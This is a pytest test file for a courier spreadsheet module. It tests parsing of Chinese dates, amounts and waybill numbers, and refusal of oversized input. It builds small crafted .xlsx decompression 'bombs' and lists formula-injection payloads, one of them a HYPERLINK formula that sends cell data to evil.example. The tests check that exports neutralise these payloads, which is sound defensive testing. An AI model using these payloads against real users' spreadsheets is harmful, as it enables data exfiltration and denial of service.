"""Spreadsheets couriers send and receive (tvcc.sheets): pure rules."""
import csv
import datetime as dt
import io
import time
import zipfile
from decimal import Decimal

import pytest

from tvcc import sheets


def test_xlsx_round_trip_keeps_numbers_text_and_dates():
    data = sheets.write_xlsx([('批次', ['运单号', '电话', '金额', '日期'], [
                    ['SF1234567890123', '13800138000', Decimal('1299.00'),
                        dt.date(2026, 11, 3)]])])
    headers, rows = sheets.read_table(data, 'x.xlsx')
    assert headers == ['运单号', '电话', '金额', '日期']
    (number, cells), = rows
    assert number == 2
    assert cells[0] == 'SF1234567890123' and cells[1] == '13800138000'
    assert sheets.parse_amount(cells[2]) == Decimal('1299.00')
    assert sheets.parse_date(cells[3]) == dt.date(2026, 11, 3)


def test_same_content_same_bytes():
    "Re-exporting a batch must hand back the very same file"
    sheet = [('s', ['a'], [['1']])]
    assert sheets.write_xlsx(sheet) == sheets.write_xlsx(sheet)


def test_gbk_csv_from_a_courier_portal_is_read():
    data = '运单号,状态,日期\r\nYT100,已签收,2026/11/20\r\n\r\n'.encode('gbk')
    headers, rows = sheets.read_table(data, 'yto.csv')
    assert headers == ['运单号', '状态', '日期']
    assert rows == [(2, ['YT100', '已签收', '2026/11/20'])]


def test_excel_number_cells_become_waybill_text():
    assert sheets.cell_text(75312345678.0) == '75312345678'
    assert sheets.cell_text(' SF1 ') == 'SF1'


@pytest.mark.parametrize('raw, expected', [
    ('2026-11-20', dt.date(2026, 11, 20)),
    ('2026/11/20 18:30', dt.date(2026, 11, 20)),
    ('2026年11月20日', dt.date(2026, 11, 20)),
    ('20261120', dt.date(2026, 11, 20)),
    ('明天', None), ('2026-13-01', None), ('', None),
    ])
def test_dates_in_the_forms_couriers_write(raw, expected):
    assert sheets.parse_date(raw) == expected


@pytest.mark.parametrize('raw, expected', [
    ('¥1,299.00', Decimal('1299.00')), ('598元', Decimal('598.00')),
    (299, Decimal('299.00')), ('CNY 12.5', Decimal('12.50')),
    ('十元', None), ('', None), (True, None),
    ])
def test_amounts(raw, expected):
    assert sheets.parse_amount(raw) == expected


@pytest.mark.parametrize('data', [b'', b'PK\x03\x04broken zip', b'\x00\x01'])
def test_unreadable_files_are_refused_whole(data):
    with pytest.raises(sheets.SheetError):
        sheets.read_table(data, 'x.xlsx' if data.startswith(b'PK') else
            'x.csv')


def test_headers_compare_without_spaces_case_or_full_width_brackets():
    assert sheets.normalize_header(' Tracking Number（SF） ') == \
        'trackingnumber(sf)'


# -- Real files (issue 11): full-width forms, Excel serials, Chinese dates,
# title and repeated header rows.

def test_full_width_tracking_numbers_phones_and_amounts_are_read_as_ascii():
    data = ('运单号,订单号,手机,金额\r\n'
        'ＳＦ１２３４５６７８９０１,ＳＯ００４２,１３８００１３８０００,'
        '"￥１，２９９．００"\r\n'
        '\u3000ＺＴＯ７５３\u200b１２\u3000,SO0043,１３９\u3000００１３\u3000９０００,'
        '５９８元\r\n').encode('utf-8')
    headers, rows = sheets.read_table(data, 'sf.csv')
    (_, first), (_, second) = rows
    assert [sheets.identifier(c) for c in first[:3]] == [
        'SF12345678901', 'SO0042', '13800138000']
    assert sheets.parse_amount(first[3]) == Decimal('1299.00')
    assert sheets.identifier(second[0]) == 'ZTO75312'
    # Spaces are no part of a number (portals group the digits).
    assert sheets.identifier(second[2]) == '13900139000'
    assert sheets.parse_amount(second[3]) == Decimal('598.00')
    # The phone then goes through tvcc.phone like any other.
    from tvcc import phone
    assert phone.normalize(sheets.identifier(first[2])) == '+8613800138000'
    assert phone.normalize(sheets.identifier(second[2])) == '+8613900139000'


def test_full_width_headers_and_codes_compare_as_ascii():
    assert sheets.normalize_header('ＳＴＡＴＵＳ\u3000') == 'status'
    assert sheets.normalize_header('Ｔｒａｃｋｉｎｇ Ｎｏ．') == 'trackingno.'
    assert sheets.identifier('ＣＮＹ') == 'CNY'
    assert sheets.identifier(75312345678.0) == '75312345678'


@pytest.mark.parametrize('raw, expected', [
    ('１，２９９', Decimal('1299.00')), ('１，２９９．５０元', Decimal('1299.50')),
    ('人民币 88', Decimal('88.00')), ('NaN', None), (float('nan'), None),
    ])
def test_amounts_in_full_width_and_other_currency_words(raw, expected):
    assert sheets.parse_amount(raw) == expected


def test_excel_date_serials_written_as_numbers_in_a_csv():
    data = b'tracking,date\r\nSF1,45981\r\nSF2,45981.4375\r\nSF3,45981.0\r\n'
    _, rows = sheets.read_table(data, 'x.csv')
    assert [sheets.parse_date(cells[1]) for _, cells in rows] == [
        dt.date(2025, 11, 20)] * 3
    assert sheets.parse_datetime(rows[1][1][1]) == dt.datetime(
        2025, 11, 20, 10, 30)
    # As numbers (an .xlsx cell without a date format), the same.
    assert sheets.parse_datetime(45981.4375) == dt.datetime(
        2025, 11, 20, 10, 30)
    # Numbers that cannot be a recent date are no date.
    assert sheets.parse_date('299') is None
    assert sheets.parse_date(True) is None


@pytest.mark.parametrize('raw, expected', [
    ('2025年11月20日 10时30分', dt.datetime(2025, 11, 20, 10, 30)),
    ('2025年11月20日10时30分15秒', dt.datetime(2025, 11, 20, 10, 30, 15)),
    ('2025年11月20日 10点', dt.datetime(2025, 11, 20, 10)),
    ('２０２５年１１月２０日', dt.datetime(2025, 11, 20)),
    ('2025年1月5号', dt.datetime(2025, 1, 5)),
    ('2025/11/20 10:30', dt.datetime(2025, 11, 20, 10, 30)),
    ('2025/11/20 10：30', dt.datetime(2025, 11, 20, 10, 30)),
    ('2025-11-20T10:30:00', dt.datetime(2025, 11, 20, 10, 30)),
    ('2025-11-20T10:30:00+08:00', dt.datetime(2025, 11, 20, 10, 30)),
    ('2025-11-20 10:30:00.000', dt.datetime(2025, 11, 20, 10, 30)),
    ('20251120', dt.datetime(2025, 11, 20)),
    ('20251120103000', dt.datetime(2025, 11, 20, 10, 30)),
    ('2025年13月20日', None), ('2025年11月20日 25时', None), ('下周', None),
    ])
def test_chinese_and_iso_date_forms(raw, expected):
    assert sheets.parse_datetime(raw) == expected
    assert sheets.parse_date(raw) == (expected.date() if expected else None)


def test_title_row_and_repeated_header_rows_are_skipped():
    data = ('顺丰速运 2025年11月对账单,,\r\n'
        ',,\r\n'
        '运单号,金额,备注\r\n'
        'SF1,10,\r\n'
        '运单号,金额,备注\r\n'
        'SF2,20,\r\n'
        '顺丰速运 2025年11月对账单,,\r\n'
        '运单号 ,金额,备注\r\n'
        'SF3,30,\r\n').encode('utf-8')
    headers, rows = sheets.read_table(data, 'sf.csv', known=['运单号'])
    assert headers == ['运单号', '金额', '备注']
    assert [(n, c[0]) for n, c in rows] == [(4, 'SF1'), (6, 'SF2'),
        (9, 'SF3')]


def test_title_row_merged_above_the_header_of_an_xlsx():
    import openpyxl
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(['中通快递 2025年11月代收货款'])
    sheet.merge_cells('A1:C1')
    sheet.append(['运单号', '金额', '日期'])
    sheet.append(['ZT1', 12.5, '2025年11月20日'])
    sheet.append(['运单号', '金额', '日期'])
    sheet.append(['ZT2', 30, 45981])
    data = io.BytesIO()
    workbook.save(data)
    headers, rows = sheets.read_table(data.getvalue(), 'zto.xlsx',
        known=['运单号', '金额'])
    assert headers == ['运单号', '金额', '日期']
    assert [(n, c[0]) for n, c in rows] == [(3, 'ZT1'), (5, 'ZT2')]
    assert [sheets.parse_date(c[2]) for _, c in rows] == [
        dt.date(2025, 11, 20)] * 2


def test_a_first_row_that_is_no_header_stays_data_with_its_repeats():
    "A file of numbers alone (campaign import): repeats are its to report"
    data = b'13800138000\r\n13900139000\r\n13800138000\r\n'
    headers, rows = sheets.read_table(data, 'n.csv', known=['phone'])
    assert headers == ['13800138000']
    assert [n for n, _ in rows] == [2, 3]


@pytest.mark.parametrize('raw, expected', [
    ('2025/11/20 下午3:30', dt.datetime(2025, 11, 20, 15, 30)),
    ('2025年11月20日 下午3点', dt.datetime(2025, 11, 20, 15)),
    ('2025年11月20日 晚上8点05分', dt.datetime(2025, 11, 20, 20, 5)),
    ('2025年11月20日 上午10时30分', dt.datetime(2025, 11, 20, 10, 30)),
    ('2025年11月20日 中午12点', dt.datetime(2025, 11, 20, 12)),
    ('2025年11月20日 凌晨12:10', dt.datetime(2025, 11, 20, 0, 10)),
    ('2025/11/20 3:30 PM', dt.datetime(2025, 11, 20, 15, 30)),
    ('2025/11/20 10:30:00 AM', dt.datetime(2025, 11, 20, 10, 30)),
    ('2025/11/20 12:30 a.m.', dt.datetime(2025, 11, 20, 0, 30)),
    ('2025年11月20日（星期四）', dt.datetime(2025, 11, 20)),
    ('2025年11月20日 周四 10:30', dt.datetime(2025, 11, 20, 10, 30)),
    ('２０２５年１１月２０日（星期四）　下午３：３０',
        dt.datetime(2025, 11, 20, 15, 30)),
    ('2025/11/20 13:00 PM', None), ('下午3:30', None), ('PM', None),
    ])
def test_morning_afternoon_and_weekday_in_dates(raw, expected):
    assert sheets.parse_datetime(raw) == expected


@pytest.mark.parametrize('raw, expected', [
    ('ＳＦ １２３４ ５６７８', 'SF12345678'),
    ('="0012345678"', '0012345678'),
    ("'0012345678", '0012345678'),
    ('＝"ＳＦ１"', 'SF1'),
    ('\tSF1\u00a0', 'SF1'),
    ('JDVA0001-1-1', 'JDVA0001-1-1'),
    (13800138000.0, '13800138000'),
    ])
def test_identifiers_drop_spaces_and_the_text_marks_of_spreadsheets(
        raw, expected):
    assert sheets.identifier(raw) == expected
    assert sheets.identifier_error(raw) is None


@pytest.mark.parametrize('raw, says', [
    ('1.38001E+10', '科学计数法'), ('１．３８Ｅ＋１０', '科学计数法'),
    ('7.53123e11', '科学计数法'),
    (1234567890123456.0, '15 位'), (1234567890123456, '15 位'),
    (123.5, '小数'),
    ])
def test_identifiers_excel_mangled_are_reported_not_guessed(raw, says):
    "A number Excel rounded or wrote as 1.38E+10 lost its last digits"
    assert says in sheets.identifier_error(raw)


@pytest.mark.parametrize('raw, expected', [
    ('(100.00)', Decimal('-100.00')), ('（１００．００）', Decimal('-100.00')),
    ('12,345,678.9', Decimal('12345678.90')), ('＝"1299"', Decimal('1299.00')),
    ('1 299.00', Decimal('1299.00')),
    # Which digits are the cents is a guess: refused, reported on the row.
    ('1.299,00', None), ('1 299,00', None), ('1,29', None),
    ])
def test_amounts_with_separators_and_accounting_negatives(raw, expected):
    assert sheets.parse_amount(raw) == expected


def _two_row_header_xlsx():
    import openpyxl
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    header = [['运单号', '收件人信息', None, '物流信息', None],
        [None, '姓名', '电话', '状态', '时间']]
    for row in [['顺丰速运 2025年11月 物流状态']] + header + [
            ['SF1', '王芳', '13800138000', '已签收', 45981.4375]] + header + [
            ['SF2', '李强', '13800138001', '拒收', '2025年11月21日']]:
        sheet.append(row)
    for cells in ['A1:E1', 'A2:A3', 'B2:C2', 'D2:E2', 'A5:A6', 'B5:C5',
            'D5:E5']:
        sheet.merge_cells(cells)
    data = io.BytesIO()
    workbook.save(data)
    return data.getvalue()


def test_a_header_on_two_rows_of_merged_cells_is_one_header():
    "收件人信息 merged over 姓名 and 电话, 运单号 merged down two rows"
    headers, rows = sheets.read_table(_two_row_header_xlsx(), 'sf.xlsx',
        known=['运单号', '电话', '状态', '时间'])
    assert headers == ['运单号', '姓名', '电话', '状态', '时间']
    # The two header rows repeated on the next page are no data.
    assert [(n, c[0]) for n, c in rows] == [(4, 'SF1'), (7, 'SF2')]


def test_a_header_on_two_rows_in_a_csv():
    data = ('订单,客户信息,\r\n,姓名,手机\r\nSO1,王芳,13800138000\r\n'
        ).encode('utf-8')
    headers, rows = sheets.read_table(data, 'x.csv', known=['姓名', '手机'])
    assert headers == ['订单', '姓名', '手机']
    assert rows == [(3, ['SO1', '王芳', '13800138000'])]


def test_the_first_data_row_is_never_taken_for_a_header_row():
    "A value that is also a column name, under a named column, is data"
    data = ('姓名,手机,备注\r\n客户,13800138000,\r\n王芳,13800138001,\r\n'
        ).encode('utf-8')
    headers, rows = sheets.read_table(data, 'x.csv',
        known=['姓名', '客户', '手机'])
    assert headers == ['姓名', '手机', '备注']
    assert [n for n, _ in rows] == [2, 3]


# -- Limits (issue 12.7)

def test_a_file_over_the_row_limit_is_refused_whole(monkeypatch):
    monkeypatch.setattr(sheets, 'MAX_ROWS', 100)
    header = '运单号,状态,日期\r\n'
    fits = header + 'SF%d,已签收,2025-11-20\r\n' * 100
    headers, rows = sheets.read_table(
        (fits % tuple(range(100))).encode(), 'x.csv')
    assert len(rows) == 100
    over = header + 'SF%d,已签收,2025-11-20\r\n' * 101
    with pytest.raises(sheets.SheetLimitError) as refused:
        sheets.read_table((over % tuple(range(101))).encode(), 'x.csv')
    assert '100 行' in refused.value.reason
    # Still a SheetError: every caller refuses the file whole.
    assert isinstance(refused.value, sheets.SheetError)


def test_an_xlsx_over_the_row_limit_is_refused(monkeypatch):
    monkeypatch.setattr(sheets, 'MAX_ROWS', 50)
    data = sheets.write_xlsx([('s', ['运单号'], [['SF%d' % i]
                    for i in range(200)])])
    with pytest.raises(sheets.SheetLimitError):
        sheets.read_table(data, 'x.xlsx')


def test_a_file_over_the_size_limit_is_refused_before_reading(monkeypatch):
    monkeypatch.setattr(sheets, 'MAX_BYTES', 1024)
    with pytest.raises(sheets.SheetLimitError) as refused:
        sheets.read_table(b'a,b\r\n' + b'1,2\r\n' * 500, 'x.csv')
    assert 'MB' in refused.value.reason and '上限' in refused.value.reason


def _crafted_xlsx(dimension, cells_xml):
    "A minimal valid .xlsx whose one sheet declares dimension"
    files = {
        '[Content_Types].xml': '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/><Default Extension='
        '"xml" ContentType="application/xml"/><Override PartName="/xl/'
        'workbook.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
        '"/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '</Types>',
        '_rels/.rels': '<?xml version="1.0" encoding="UTF-8"?><Relationships'
        ' xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="rId1" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/'
        'officeDocument" Target="xl/workbook.xml"/></Relationships>',
        'xl/workbook.xml': '<?xml version="1.0" encoding="UTF-8"?><workbook'
        ' xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
        ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"'
        '/></sheets></workbook>',
        'xl/_rels/workbook.xml.rels': '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/worksheet"'
        ' Target="worksheets/sheet1.xml"/></Relationships>',
        'xl/worksheets/sheet1.xml': '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        '2006/main"><dimension ref="%s"/><sheetData>%s</sheetData>'
        '</worksheet>' % (dimension, cells_xml),
        }
    data = io.BytesIO()
    with zipfile.ZipFile(data, 'w', zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return data.getvalue()


_CELLS = ('<row r="1"><c r="A1" t="inlineStr"><is><t>运单号</t></is></c></row>'
    '<row r="2"><c r="A2" t="inlineStr"><is><t>SF1</t></is></c></row>')


def test_the_crafted_xlsx_is_a_valid_workbook():
    "The builder below is sound: with an honest dimension it reads"
    headers, rows = sheets.read_table(_crafted_xlsx('A1:A2', _CELLS), 'x.xlsx')
    assert headers == ['运单号'] and rows == [(2, ['SF1'])]


def test_an_xlsx_declaring_17_billion_cells_is_refused_at_once():
    data = _crafted_xlsx('A1:XFD1048576', _CELLS)
    assert len(data) < 5000
    start = time.monotonic()
    with pytest.raises(sheets.SheetLimitError) as refused:
        sheets.read_table(data, 'bomb.xlsx')
    assert time.monotonic() - start < 2
    assert '1048576 行' in refused.value.reason
    assert '16384 列' in refused.value.reason


def test_an_xlsx_with_a_far_row_and_no_dimension_is_refused(monkeypatch):
    monkeypatch.setattr(sheets, 'MAX_ROWS', 1000)
    cells = _CELLS + '<row r="1048576"><c r="A1048576"><v>1</v></c></row>'
    data = _crafted_xlsx('A1', cells)
    start = time.monotonic()
    with pytest.raises(sheets.SheetLimitError):
        sheets.read_table(data, 'bomb.xlsx')
    assert time.monotonic() - start < 2


def test_an_xlsx_unpacking_to_more_than_the_limit_is_refused(monkeypatch):
    monkeypatch.setattr(sheets, 'MAX_UNPACKED_BYTES', 100000)
    padding = '<row r="3"><c r="A3" t="inlineStr"><is><t>%s</t></is></c>' \
        '</row>' % ('0' * 200000)
    data = _crafted_xlsx('A1:A3', _CELLS + padding)
    assert len(data) < 5000
    with pytest.raises(sheets.SheetLimitError) as refused:
        sheets.read_table(data, 'x.xlsx')
    assert '解压' in refused.value.reason


# -- Exports (issue 12.7): nothing we write runs as a formula

_INJECTED = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '@SUM(1)',
    '+8613800138000', '-2+3', '\t=1+1', '\r=1+1']


def test_xlsx_export_neutralises_formula_text_keeps_real_numbers():
    import openpyxl
    data = sheets.write_xlsx([('进线', ['=1+1', '电话', '金额', '数量'],
                [[_INJECTED[0], '+8613800138000', Decimal('-12.50'), -3],
                    [_INJECTED[1], _INJECTED[3], None, 5]]
                + [[t] for t in _INJECTED[4:]])])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b'<f>' not in archive.read('xl/worksheets/sheet1.xml')
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][0] == "'=1+1"
    assert values[1][:2] == ["'" + _INJECTED[0], "'+8613800138000"]
    assert values[1][2:] == [-12.5, -3]
    assert sheet['C2'].data_type == 'n' and sheet['B2'].data_type == 's'
    assert values[2][:2] == ["'@SUM(1)", "'-2+3"]
    # (xlsx stores a carriage return as _x000D_)
    assert values[3][0] == "'\t=1+1" and values[4][0].startswith("'")
    # Read back by an import, our own export gives the values again.
    _, rows = sheets.read_table(data, 'again.xlsx')
    assert sheets.identifier(rows[0][1][1]) == '+8613800138000'
    assert sheets.parse_amount("'-12.50") == Decimal('-12.50')
    # Plain text is untouched.
    assert sheets.safe_text('SF123') == 'SF123'
    assert sheets.safe_text('张三') == '张三'


def test_csv_export_neutralises_formula_text_keeps_real_numbers():
    data = sheets.write_csv(['电话', '客户', '金额'], [
            ['+8613800138000', _INJECTED[0], Decimal('-12.50')],
            ['13800138000', '@SUM(1)', -3],
            [None, '=1+1', dt.date(2025, 11, 20)]])
    assert data.startswith(b'\xef\xbb\xbf')
    rows = list(csv.reader(io.StringIO(data.decode('utf-8-sig'))))
    assert rows == [['电话', '客户', '金额'],
        ["'+8613800138000", "'" + _INJECTED[0], '-12.50'],
        ['13800138000', "'@SUM(1)", '-3'],
        ['', "'=1+1", '2025-11-20']]
